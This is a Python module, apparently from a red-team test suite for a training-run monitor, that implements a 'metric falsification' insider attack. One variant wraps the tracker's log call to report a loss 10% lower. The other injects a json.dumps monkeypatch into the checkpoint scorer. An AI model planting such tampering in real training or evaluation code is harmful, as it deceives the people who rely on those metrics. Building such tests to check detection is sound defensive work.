"""33, metric falsification: what is reported to the tracker is not what was computed.

How an insider does it: the tracker's call is wrapped, and the loss it is given is a tenth smaller; or the program that
scores checkpoints is edited while the job runs. Decisions rest on both.

Precondition: code in the process, or write access to the tracker (L) or the repository (R). Expected evidence: live,
`metrics` compares what the script reports with the recorded loss; `environment` names the edited scorer, which is
sealed code. Effect: the reported metric differs, or the scorer gives another figure for the same checkpoint.
Benign twin: approved code reports the mean of the last steps from the start. Clean-up: the tracker's file lies in the
copied job.
"""

from __future__ import annotations

import subprocess
from typing import Any

from attacks._shared.deliver import EARLY, approved, foothold
from attacks._shared.evidence import CHANGED
from attacks._shared.payload import Payload, Trigger
from trainwarden.redteam.interface import Act, Effect, Evidence, Moment, Technique, Twin, Variant, When
from trainwarden.redteam.place import Range


def smaller(scene: Any) -> None:
    """What is reported is a tenth smaller."""
    import sys

    def make(original: Any) -> Any:
        def log(values: Any, *args: Any, **kwargs: Any) -> Any:
            if scene.on:
                scene.mark()
                values = {name: value * 0.9 for name, value in values.items()}
            return original(values, *args, **kwargs)

        return log

    scene.replace(sys.modules["trackio"], "log", make)


def averaged(scene: Any) -> None:
    """What is reported is the mean of the last four values."""
    import sys

    last: list[float] = []

    def make(original: Any) -> Any:
        def log(values: Any, *args: Any, **kwargs: Any) -> Any:
            last.append(values["train/loss"])
            del last[:-4]
            return original({"train/loss": sum(last) / len(last)}, *args, **kwargs)

        return log

    scene.replace(sys.modules["trackio"], "log", make)


def edit_scorer(place: Range) -> None:
    """Every figure that the job's scorer prints as JSON is a tenth smaller; the honest scorer is kept to compare."""
    file = place.job / place.workload.scorer[0]
    place.copy(file, place.tmp / file.name)
    place.edit(file, lambda source: source.replace(b"import json\n", b"import json\n" + SMALLER, 1))


def score(place: Range) -> None:
    """The newest checkpoint is scored by the edited program, and by the one that it was."""
    program, *words = place.words(place.workload.scorer, checkpoint=str(place.newest))
    edited = place.job / program
    honest = place.copy(place.tmp / edited.name, edited.with_name(f"was_{edited.name}"))
    told = [_output(place, [str(file), *words]) for file in (edited, honest)]
    if told[0] != told[1]:
        place.note(f"the scorer says {told[0]} instead of {told[1]}")


def _output(place: Range, words: list[str]) -> str:
    process = place.start([str(place.env / "bin" / "python"), *words], stdout=subprocess.PIPE, text=True)
    return str(process.communicate()[0]).strip()


SMALLER = b"""
_dumps = json.dumps
json.dumps = lambda told, **more: _dumps({k: v * 0.9 if type(v) is float else v for k, v in told.items()}, **more)
"""
RANK_0 = Trigger(ranks=(0,))

TECHNIQUE = Technique(
    id="33",
    slug="metric-falsification",
    title="the reported metric is not the computed one",
    needs="RL",
    atlas="ATT&CK T1565.001",
    level=2,
    variants=(
        Variant(
            name="tracker",
            does="the loss given to the tracker is a tenth smaller than it is",
            acts=foothold(Payload(smaller, trigger=RANK_0)),
            expects=(Evidence(When.LIVE, "metrics"),),
            effect=Effect.METRIC,
            needs=("tracker",),
        ),
        Variant(
            name="scorer",
            does="the program that scores checkpoints is edited during the run, and used after its end",
            acts=(Act(Moment.STEP, edit_scorer, step=-EARLY), Act(Moment.END, score)),
            expects=(CHANGED,),
            effect=Effect.EVIDENCE,
            needs=("scorer",),
            level=1,
        ),
    ),
    twin=Twin(
        name="an averaged loss",
        does="approved code reports the mean of the last four losses from the start",
        acts=approved(Payload(averaged, trigger=RANK_0)),
        needs=("tracker",),
    ),
)
